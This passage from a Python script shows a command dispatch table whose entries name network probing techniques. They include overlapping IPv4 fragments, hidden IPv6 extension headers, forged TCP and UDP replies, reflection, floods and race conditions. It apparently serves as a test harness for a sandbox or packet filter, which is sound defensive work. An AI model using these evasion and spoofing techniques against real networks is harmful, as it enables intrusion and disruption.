    "inbound-rthdr": inbound_rthdr, "nd": nd, "mld": mld, "igmp": igmp, "reflect-udp": reflect_udp, "late-write-options": late_write_options, "udp-revoke": udp_revoke, "udp-tied": udp_tied,
    "udp-late-reply": udp_late_reply,
    "connect-then-send": connect_then_send, "exec-as": lambda path, *rest: exec_as(path, list(rest)),
    "chroot-exec": lambda root, path, *rest: chroot_exec(root, path, list(rest)),
    "overwrite-exec": lambda src, path, *rest: overwrite_exec(src, path, list(rest)),
    "copy-exec": lambda src, dst, *rest: copy_exec(src, dst, list(rest)),
    "as-comm": lambda name, *rest: as_comm(name, list(rest)),
    "sendto-unspec": sendto_unspec, "raw4": raw4, "raw-via": raw_via, "cache-race": cache_race, "frag4-later": frag4_later, "frag4-after-cached": frag4_after_cached, "frag4-overlap": frag4_overlap,
    "frag4-tiny": frag4_tiny, "v6-ext": v6_ext, "v6-truncated-ext": v6_truncated_ext, "v6-frag-hidden": v6_frag_hidden, "v6-srh-raw": v6_srh_raw, "tfo": tfo,
    "sendmmsg": sendmmsg, "mcast-reply": mcast_reply, "v6-srh-segleft": v6_srh_segleft, "v6-ext7-srh": v6_ext7_srh, "reflect-echo6": reflect_echo6, "reflect-echo4": reflect_echo4, "reflect-rst4": reflect_rst4, "stream-mptcp": stream_mptcp, "revoked-flood": revoked_flood, "revoked-claim": revoked_claim, "fdpass": fdpass, "fd-create": fd_create, "flood": flood,
    "pkt-udp": pkt_udp, "pkt-udp-big": pkt_udp_big, "pkt-vlan": pkt_vlan, "pkt-ethertype": pkt_ethertype, "pkt-igmp": pkt_igmp, "pkt-vnet-csum": pkt_vnet_csum, "pkt-txring-race": pkt_txring_race, "xdp-csum": xdp_csum, "tx-checksum": tx_checksum, "pkt-arp": pkt_arp, "pkt-arp-plain": pkt_arp_plain, "pkt-nd": pkt_nd, "pkt-mld": pkt_mld,
    "pkt-lo": pkt_lo, "pkt-lo-forward": pkt_lo_forward, "tcp-forged-accept": tcp_forged_accept,
    "udp-forged-reply": udp_forged_reply, "forged-echo": forged_echo, "xdp-udp": xdp_udp, "dns-forwarder": dns_forwarder, "udp-ask": udp_ask,
    "raw-udp": raw_udp, "bound-send": bound_send, "pktinfo-udp": pktinfo_udp, "mld-join": mld_join,
}


if __name__ == "__main__":
    COMMANDS[sys.argv[1]](*sys.argv[2:])
